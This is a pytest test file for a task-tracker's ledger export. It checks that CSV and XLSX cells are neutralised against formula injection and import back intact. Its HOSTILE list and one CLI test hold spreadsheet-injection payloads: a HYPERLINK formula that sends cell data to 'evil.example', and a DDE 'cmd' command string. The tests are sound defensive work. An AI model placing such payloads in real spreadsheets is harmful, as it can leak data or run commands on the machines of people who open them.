"""`tasktrack export ledger`: CSV and XLSX whose cells are values, never formulas, and that import back."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tasktrack.domain.cells import is_formula_like, neutralize, unneutralize
from tasktrack.reports.cells import clean_text, csv_cell, csv_chunks, to_csv, to_xlsx
from tasktrack.services.ledger import Ledger

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
    "  =1+2",
    "＝1+2",
    "'=already quoted",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_cells_that_could_be_formulas_get_a_quote(text: str) -> None:
    cell = csv_cell(text)
    assert cell.startswith("'")
    assert unneutralize(cell) == clean_text(text)


def test_numbers_and_plain_text_are_left_alone() -> None:
    assert [csv_cell(v) for v in (-5, -1.5, 0, 2135.0, 1.55, "区科技局", "a=b", "it's", None)] == [
        "-5",
        "-1.5",
        "0",
        "2135",
        "1.55",
        "区科技局",
        "a=b",
        "it's",
        "",
    ]


@given(st.text())
def test_neutralize_round_trips_and_never_leaves_a_formula(text: str) -> None:
    out = neutralize(text)
    assert unneutralize(out) == text
    assert not is_formula_like(out) or out.startswith("'")
    if out != text:
        assert out == "'" + text


def test_csv_has_a_bom_and_crlf_so_wps_reads_it() -> None:
    data = to_csv(["编号", "实际"], [["1-M1", -3], ["=1", None]])
    assert data.startswith("\ufeff".encode())
    assert data.decode("utf-8-sig") == "编号,实际\r\n1-M1,-3\r\n'=1,\r\n"


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.read("xl/worksheets/sheet1.xml").decode()


def test_xlsx_text_cells_are_strings_numbers_are_numbers() -> None:
    from openpyxl import load_workbook

    data = to_xlsx("台账", ["编号", "实际", "进展情况"], [["=1+2", -5, "@SUM(A1)\x1b[2J"]], [10, 10, 10])
    xml = _sheet_xml(data)
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere
    ws = load_workbook(io.BytesIO(data)).active
    code, actual, progress = ws[2]
    assert (code.value, code.data_type, code.quotePrefix) == ("=1+2", "s", True)
    assert (actual.value, actual.data_type) == (-5, "n")
    assert progress.value == "@SUM(A1)␛[2J" and progress.data_type == "s"


def test_export_cli_writes_hostile_text_safely_and_it_imports_back(
    cli: Any, demo_ledger: Ledger, tmp_path: Path
) -> None:
    from tasktrack.importers.ledger_sheet import read_ledger_sheet
    from tasktrack.services.ledger_import import LedgerSheetService

    demo_ledger.progress.add(
        "kaizhou-7p:1-M3", unit=None, period="2021-12", progress="=cmd|' /C calc'!A0", on_milestone=True
    )
    demo_ledger.milestones.edit("kaizhou-7p:1-M3", {"metric": "-科技型企业+@"})
    out_csv, out_xlsx = tmp_path / "l.csv", tmp_path / "l.xlsx"
    assert (
        cli("--as-of", "2022-01-10", "export", "ledger", "--plan", "kaizhou-7p", "-o", str(out_csv)).code == 0
    )
    assert (
        cli("--as-of", "2022-01-10", "export", "ledger", "--plan", "kaizhou-7p", "-o", str(out_xlsx)).code
        == 0
    )
    rows = list(csv.DictReader(io.StringIO(out_csv.read_text(encoding="utf-8-sig"))))
    row = next(r for r in rows if r["编号"] == "1-M3")
    assert row["进展情况"] == "'=cmd|' /C calc'!A0"
    assert row["年度目标"] == "'-科技型企业+@"
    assert next(r for r in rows if r["编号"] == "6-M1")["实际"] == "2135"
    assert "<f>" not in _sheet_xml(out_xlsx.read_bytes())
    service = LedgerSheetService(demo_ledger.ctx)
    for path in (out_csv, out_xlsx):
        sheet = read_ledger_sheet(path).check()
        assert next(r for r in sheet.rows if r.code == "1-M3").progress == "=cmd|' /C calc'!A0"
        assert service.apply(sheet).changes == 0


def test_export_in_english_and_format_choice(cli: Any, demo_ledger: Ledger, tmp_path: Path) -> None:
    r = cli("--lang", "en", "export", "ledger", "--plan", "kaizhou-7p", "--format", "csv")
    assert r.code == 0
    header = r.out.lstrip("\ufeff").splitlines()[0]
    assert header.startswith("No.,Plan,Code,Programme,Task,Target,Goal,Due,Lead unit,Co-units,Status,Actual")
    assert "1-M1" in r.out and ",done," in r.out
    r = cli("export", "ledger", "--format", "pdf")
    assert r.code == 2 and "--format 只能是 csv 或 xlsx" in r.err


@pytest.mark.parametrize("size", [1, 2, 1_000])
def test_csv_in_chunks_is_the_csv_in_one_piece(size: int) -> None:
    """The export streams its CSV (issue 16): the chunks, joined, are to_csv()'s bytes, the BOM once."""
    rows = [["1-M1", -3, None], ["=1", 2.5, "多\n行"], ["x", 0, ""]]
    chunks = list(csv_chunks(["编号", "实际", "备注"], rows, size=size))
    assert b"".join(chunks) == to_csv(["编号", "实际", "备注"], rows)
    assert sum(c.count("\ufeff".encode()) for c in chunks) == 1


def test_the_whole_ledger_is_its_plans_one_after_another(demo_ledger: Ledger) -> None:
    """Exported a plan at a time (issue 16), the whole ledger's rows are each plan's rows in plan order,
    numbered on from one plan to the next, and the same rows as before: nothing else differs."""
    from tasktrack.services.ledger_import import LedgerSheetService

    service = LedgerSheetService(demo_ledger.ctx)
    whole = service.export()
    plans = [p.key for p in demo_ledger.plans.list()]
    assert len(plans) > 1
    one_by_one = [r for key in sorted(plans, key=lambda k: demo_ledger.plans.get(k).id)
                  for r in service.export(key)]  # fmt: skip
    assert [r["no"] for r in whole] == list(range(1, len(whole) + 1))
    strip = [{k: v for k, v in r.items() if k != "no"} for r in whole]
    assert strip == [{k: v for k, v in r.items() if k != "no"} for r in one_by_one]
    assert [r["plan"] for r in whole] == [r["plan"] for r in one_by_one]


def test_export_cli_to_a_file_is_what_it_prints(cli: Any, demo_ledger: Ledger, tmp_path: Path) -> None:
    r = cli("export", "ledger")
    assert r.code == 0
    out = tmp_path / "ledger.csv"
    assert cli("export", "ledger", "-o", str(out)).code == 0
    assert out.read_bytes().decode("utf-8-sig") == r.out.lstrip("\ufeff")
